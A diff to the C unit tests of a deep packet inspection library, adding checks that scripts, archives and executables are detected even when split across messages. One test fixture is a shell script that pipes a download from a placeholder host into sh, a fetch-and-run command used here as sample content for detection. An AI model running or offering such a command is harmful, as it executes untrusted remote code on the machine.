@@ -19,7 +19,7 @@
 #define PER_KIND 24u /* payloads of one protocol */
 
 static struct dpi *dpi;
-static struct dpi_set unknown, doubtful, http;
+static struct dpi_set unknown, doubtful, http, no_files;
 
 static void set_make(struct dpi_set *set, const char *const *allow, uint32_t n)
 {
@@ -32,10 +32,13 @@ static void set_make(struct dpi_set *set, const char *const *allow, uint32_t n)
 static int open_all(void **state)
 {
 	static const char *const a[] = { "unknown" }, *const b[] = { "unknown", "doubtful" }, *const c[] = { "unknown", "HTTP" };
+	static const char *const files[] = { "executable", "archive", "script" };
+	const struct dpi_profile p = { .allow = b, .n_allow = 2, .forbid = files, .n_forbid = 3 }, *one[] = { &p };
 	struct dpi_err err;
 
 	(void)state;
 	assert_int_equal(dpi_open(&dpi, &err), 0);
+	assert_int_equal(dpi_set_make(&no_files, one, 1, &err), 0);
 	set_make(&unknown, a, 1);
 	set_make(&doubtful, b, 2);
 	set_make(&http, c, 2);
@@ -92,7 +95,7 @@ static void note(void *arg, unsigned l4, const uint8_t *payload, size_t len)
 		return;
 	dpi_inspect(dpi, set, payload, len, &f);
 	unsigned id = f.master ? f.master : f.app;
-	if (f.answer == DPI_CLEAN || id >= DPI_IDS_MAX || per_id[id] == PER_KIND)
+	if (f.answer == DPI_CLEAN || f.why == DPI_WHY_DOUBTFUL || id >= DPI_IDS_MAX || per_id[id] == PER_KIND)
 		return;
 	per_id[id]++;
 	uint8_t *copy = malloc(len);
@@ -328,6 +331,94 @@ static void sees_risks_over_messages(void **state)
 	assert_int_equal(say(&unknown, 21, 1, "good evening").answer, DPI_CLEAN);
 }
 
+/* One file in two pieces, everywhere up to `places`; what is by itself of a kind already counts as caught. */
+static void cut_file(const void *bytes, size_t len, size_t places, unsigned kind)
+{
+	static uint32_t field = 2000000;
+
+	for (size_t cut = 1; cut < places && cut < len; cut++) {
+		struct dpi_finding f = send(&no_files, 22, ++field, bytes, cut);
+
+		if (f.answer == DPI_CLEAN) {
+			f = send(&no_files, 22, field, (const uint8_t *)bytes + cut, len - cut);
+			if (f.why != DPI_WHY_KIND)
+				print_error("kind %u, cut at %zu: why %u\n", kind, cut, f.why);
+			assert_true(f.pieces <= 1); /* 0: its rest is of a kind, too */
+		}
+		assert_int_equal(f.why, DPI_WHY_KIND);
+		assert_true(f.kinds & kind);
+	}
+}
+
+static void sees_files_over_messages(void **state)
+{
+	static const char script[] = "#!/bin/sh\ncurl -s http://a.example/x | sh\n";
+	static const uint8_t gzip[] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 3, 0xcb, 0x48, 0xcd, 0xc9, 0xc9, 0xe7, 2, 0, 0x20, 0x30,
+					0x3a, 0x36, 6, 0, 0, 0 };
+	static uint8_t elf[2000], tar[600], exe[400];
+	FILE *self = fopen("/proc/self/exe", "rb");
+	struct dpi_finding f;
+	char text[DPI_NAME_MAX];
+
+	(void)state;
+	assert_non_null(self);
+	assert_int_equal(fread(elf, 1, sizeof(elf), self), sizeof(elf));
+	fclose(self);
+	memcpy(exe, "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff", 14);
+	exe[0x3c] = 0x80;
+	memcpy(exe + 0x80, "PE\0\0\x64\x86\2", 7);
+	exe[0x80 + 20] = 0xf0;
+	exe[0x80 + 22] = 0x22;
+	exe[0x80 + 24] = 0x0b;
+	exe[0x80 + 25] = 2;
+	memcpy(tar, "notes", 5);
+	memcpy(tar + 100, "0000644\0" "0000000\0" "0000000\0" "00000000000\0" "00000000000\0" "        0", 57);
+	memcpy(tar + 257, "ustar\00000", 8);
+	unsigned sum = 0;
+	for (size_t i = 0; i < 512; i++)
+		sum += tar[i];
+	snprintf((char *)tar + 148, 8, "%06o", sum);
+	cut_file(script, sizeof(script) - 1, 20, DPI_KIND_SCRIPT);
+	cut_file(gzip, sizeof(gzip), 20, DPI_KIND_ARCHIVE);
+	cut_file(elf, sizeof(elf), 24, DPI_KIND_EXECUTABLE);
+	cut_file(exe, sizeof(exe), 24, DPI_KIND_EXECUTABLE);
+	for (size_t cut = 250; cut < 512; cut += cut < 265 ? 3 : 40) { /* the mark is at 257 */
+		static uint32_t field = 2100000;
+
+		f = send(&no_files, 22, ++field, tar, cut);
+		if (f.answer == DPI_CLEAN)
+			f = send(&no_files, 22, field, tar + cut, sizeof(tar) - cut);
+		assert_int_equal(f.why, DPI_WHY_KIND);
+		assert_int_equal(f.kinds, DPI_KIND_ARCHIVE);
+	}
+	/* Byte by byte; told as it is; and in pieces that are no beginning, or under a rule that forbids no kinds, nothing. */
+	for (size_t i = 0; i + 1 < sizeof(script) && (f = send(&no_files, 23, 1, script + i, 1)).answer == DPI_CLEAN;)
+		i++;
+	dpi_finding_text(&f, text);
+	assert_string_equal(text, "script over 2 messages");
+	assert_int_equal(say(&no_files, 24, 1, "# heading").answer, DPI_CLEAN);
+	assert_int_equal(say(&no_files, 24, 1, "!/bin/sh\n").answer, DPI_CLEAN);
+	assert_int_equal(say(&unknown, 25, 1, "#").answer, DPI_CLEAN);
+	assert_int_equal(say(&unknown, 25, 1, "!/bin/sh\n").answer, DPI_CLEAN);
+	/* What begins many files at once was made to cost time. */
+	for (unsigned i = 0; i < 40 && (f = say(&no_files, 26, 1, i & 1 ? "Z" : "M")).answer == DPI_CLEAN;)
+		i++;
+	assert_int_equal(f.why, DPI_WHY_AMBIGUOUS);
+}
+
+/* Thin evidence is for one payload alone: half of random data in a row makes some. */
+static void thin_evidence_is_not_joined(void **state)
+{
+	/* RTP to nDPI, by its first bits and its type. */
+	static const uint8_t rtp[] = { 0x80, 0x00, 0x12, 0x34, 0, 0, 0, 1, 0x55, 0x66, 0x77, 0x88, 1, 2, 3, 4, 5, 6, 7, 8,
+				       9, 10, 11, 12, 13, 14, 15, 16 };
+
+	(void)state;
+	assert_int_equal(send(&unknown, 27, 1, rtp, sizeof(rtp)).why, DPI_WHY_DOUBTFUL);
+	assert_int_equal(send(&unknown, 27, 2, rtp, 4).answer, DPI_CLEAN);
+	assert_int_equal(send(&unknown, 27, 2, rtp + 4, sizeof(rtp) - 4).answer, DPI_CLEAN);
+}
+
 /* One message with several fields: those of the same number are pieces in a row; if one is refused, none was there. */
 static void fields_of_one_message(void **state)
 {
@@ -383,6 +474,8 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(puts_together_what_one_conversation_says),
 		cmocka_unit_test(sees_risks_over_messages),
+		cmocka_unit_test(sees_files_over_messages),
+		cmocka_unit_test(thin_evidence_is_not_joined),
 		cmocka_unit_test(fields_of_one_message),
 		cmocka_unit_test(shares_are_fair),
 		cmocka_unit_test(bounds_are_as_told),
